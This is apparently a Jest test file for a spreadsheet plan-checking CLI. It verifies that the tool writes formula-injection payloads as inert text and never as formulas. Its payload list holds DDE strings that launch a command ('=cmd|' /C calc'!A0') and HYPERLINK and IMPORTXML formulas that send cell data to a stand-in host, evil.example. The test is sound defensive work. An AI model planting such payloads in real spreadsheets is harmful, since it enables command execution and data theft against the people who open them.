import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import ExcelJS from "exceljs";
import JSZip from "jszip";
import { main, type Io } from "../../src/cli/main";
import { sheetParts } from "../xlsx/xlsxPackage";

/** Text a spreadsheet could evaluate: formulas, DDE calls, and the same behind a tab or a carriage return. */
const PAYLOADS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  '\r\n=HYPERLINK("http://evil.example")',
  '=IMPORTXML("http://evil.example","//a")',
];

const io: Io = { out: () => undefined, err: () => undefined, errIsTty: false };

/** A plan whose every text field carries a payload: section, ref, action, owner, timescale, status. */
async function poisonedPlan(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet("Plan");
  ws.getRow(1).values = ["=SUM(1+1) section"];
  ws.getRow(3).values = ["Ref", "Action", "Lead officer", "Timescale", "Status"];
  PAYLOADS.forEach((p, i) => {
    // owners blank on odd rows, so the summary's exceptions list carries every action's text
    ws.getRow(4 + i).values = [p, p, i % 2 ? "" : p, i % 3 ? "March 2004" : p, p];
  });
  return Buffer.from(await wb.xlsx.writeBuffer());
}

const unescape = (s: string): string =>
  s
    .replace(/&#(\d+);/g, (_m, d: string) => String.fromCharCode(Number(d)))
    .replace(/&#x([0-9a-f]+);/gi, (_m, h: string) => String.fromCharCode(parseInt(h, 16)))
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, "&");

interface XmlCell {
  readonly ref: string;
  readonly type: string | null;
  readonly formula: string | null;
  readonly text: string | null;
}

/** Every `<c>` of a sheet part with its type, formula and (shared or inline) text. */
async function sheetCells(zip: JSZip, part: string, shared: readonly string[]): Promise<XmlCell[]> {
  const xml = await zip.file(part)!.async("string");
  const out: XmlCell[] = [];
  for (const m of xml.matchAll(/<c\b([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
    const attrs = m[1] ?? "";
    const body = m[2] ?? "";
    const ref = /\sr="([^"]+)"/.exec(attrs)?.[1] ?? "?";
    const type = /\st="([^"]+)"/.exec(attrs)?.[1] ?? null;
    const formula = /<f\b[^>]*>([\s\S]*?)<\/f>|<f\b[^>]*\/>/.exec(body);
    const v = /<v>([\s\S]*?)<\/v>/.exec(body)?.[1];
    const inline = [...body.matchAll(/<t\b[^>]*>([\s\S]*?)<\/t>/g)].map((t) => t[1]).join("");
    const text =
      type === "s" && v !== undefined
        ? (shared[Number(v)] ?? null)
        : type === "inlineStr"
          ? unescape(inline)
          : null;
    out.push({ ref, type, formula: formula ? (formula[1] ?? "") : null, text });
  }
  return out;
}

async function sharedStrings(zip: JSZip): Promise<string[]> {
  const xml = (await zip.file("xl/sharedStrings.xml")?.async("string")) ?? "";
  return [...xml.matchAll(/<si>([\s\S]*?)<\/si>/g)].map((si) =>
    unescape([...(si[1] ?? "").matchAll(/<t\b[^>]*>([\s\S]*?)<\/t>/g)].map((t) => t[1]).join(""))
  );
}

/** What the tool wrote: every cell of its own sheets in `file`. */
async function toolCells(file: string, ownSheets: readonly string[]): Promise<XmlCell[]> {
  const zip = await JSZip.loadAsync(readFileSync(file));
  const parts = await sheetParts(zip);
  const shared = await sharedStrings(zip);
  const cells: XmlCell[] = [];
  for (const sheet of ownSheets) {
    const part = parts.get(sheet);
    expect([sheet, part]).toEqual([sheet, expect.any(String)]);
    cells.push(...(await sheetCells(zip, part!, shared)));
  }
  return cells;
}

/** The first characters a spreadsheet (or a CSV importer) treats as the start of a formula. */
const TRIGGER = /^[\s]*[=+\-@]/;

function assertInert(cells: readonly XmlCell[]): number {
  // the tool writes no formula at all: every payload is a string cell
  expect(cells.filter((c) => c.formula !== null)).toEqual([]);
  const carrying = cells.filter((c) => c.text !== null && TRIGGER.test(c.text));
  for (const c of carrying)
    expect([c.ref, c.type]).toEqual([c.ref, expect.stringMatching(/^(s|inlineStr)$/)]);
  return carrying.length;
}

describe("plan text is never written as a formula", () => {
  let dir: string;
  let plan: string;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), "apc-inject-"));
    plan = join(dir, "poisoned.xlsx");
    writeFileSync(plan, await poisonedPlan());
  });

  it("in the checked copy's RAG Summary and RAG History", async () => {
    const out = join(dir, "out");
    await main(["check", plan, "--out", out, "--snapshot", "--as-of", "2004-06-30"], io);
    const cells = await toolCells(join(out, "poisoned.checked.xlsx"), [
      "RAG Summary",
      "RAG History",
    ]);
    const carrying = assertInert(cells);
    const texts = new Set(cells.map((c) => c.text));
    // every payload reached the summary (as an action, owner or ref), so the check is not vacuous
    for (const p of PAYLOADS) expect([p, texts.has(p) || texts.has(p.trim())]).toEqual([p, true]);
    console.log(
      `formula injection: ${carrying} formula-looking cells in the checked copy, all text, no <f>`
    );
  });

  it("in the roll-up workbook", async () => {
    const out = join(dir, "rollup.xlsx");
    await main(["rollup", plan, "--out", out, "--as-of", "2004-06-30"], io);
    const zip = await JSZip.loadAsync(readFileSync(out));
    const sheets = [...(await sheetParts(zip)).keys()];
    const cells = await toolCells(out, sheets);
    expect(assertInert(cells)).toBeGreaterThanOrEqual(PAYLOADS.length);
  });

  it("and the plan's own formula-looking cells stay text in the copy", async () => {
    const copy = new ExcelJS.Workbook();
    await copy.xlsx.load(
      readFileSync(join(dir, "out", "poisoned.checked.xlsx")) as unknown as ExcelJS.Buffer
    );
    const ws = copy.getWorksheet("Plan")!;
    const actions = PAYLOADS.map((_p, i) => {
      const v = ws.getRow(4 + i).values as ExcelJS.CellValue[];
      return v[2];
    });
    // (XML reads a raw CR as LF: ExcelJS wrote the input that way, so the input already says "\n=1+1")
    expect(actions).toEqual(PAYLOADS.map((p) => p.replace(/\r\n?/g, "\n")));
  });
});
